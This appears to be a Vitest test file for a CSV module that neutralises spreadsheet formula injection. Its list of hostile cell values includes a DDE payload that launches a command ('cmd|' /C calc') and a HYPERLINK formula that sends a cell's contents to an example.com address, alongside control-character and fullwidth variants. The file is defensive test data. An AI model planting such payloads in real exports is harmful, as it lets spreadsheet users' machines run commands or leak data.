import { describe, expect, it } from 'vitest';
import { readCsv } from '../../src/controllers/read-csv.js';
import { csvLine, defused, separatorFor, undefused } from '../../src/state/csv-cells.js';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.com?"&A1,"Click")',
  '+33612345678',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''+33",
];
const HARMLESS = [
  '',
  'Ada',
  'ada@example.com',
  "O'Neill",
  "'quoted'",
  '2026-11-24T10:00:00.000Z',
  'a=b',
  'a,"b"',
];

describe('A cell', () => {
  it.each(HOSTILE)('that a spreadsheet could run is a text there: %j', (value) => {
    expect(defused(value)).toBe(`'${value}`);
  });

  it.each(HARMLESS)('that it could not stays as it is: %j', (value) => {
    expect(defused(value)).toBe(value);
  });

  it.each([...HOSTILE, ...HARMLESS])('comes back from a file exactly as it was: %j', async (value) => {
    const text = csvLine(['first', value, 'last'], ',');
    const [row] = await readCsv(text, new AbortController().signal);
    expect(row?.cells.map(undefused)).toEqual(['first', value, 'last']);
    expect(row?.cells[1]).not.toMatch(/^[=+\-@\t\r\n\0]/);
  });

  it('cannot begin another one by quotes, separators and line breaks', async () => {
    const [row, ...others] = await readCsv(
      csvLine(['x","=1+1', 'y\r\n=2,=3'], ','),
      new AbortController().signal,
    );
    expect(row?.cells).toEqual(['x","=1+1', 'y\r\n=2,=3']);
    expect(others).toEqual([]);
    // Control: written without quotes it does.
    const naive = await readCsv(['y\r\n=2,=3', 'z'].join(','), new AbortController().signal);
    expect(naive[1]?.cells[0]).toBe('=2');
  });
});

describe('What stands between cells', () => {
  it('is what the spreadsheets of the language expect', () => {
    expect(separatorFor('en')).toBe(',');
    expect(separatorFor('fr')).toBe(';');
    expect(separatorFor('de-CH')).toBe(',');
  });
});
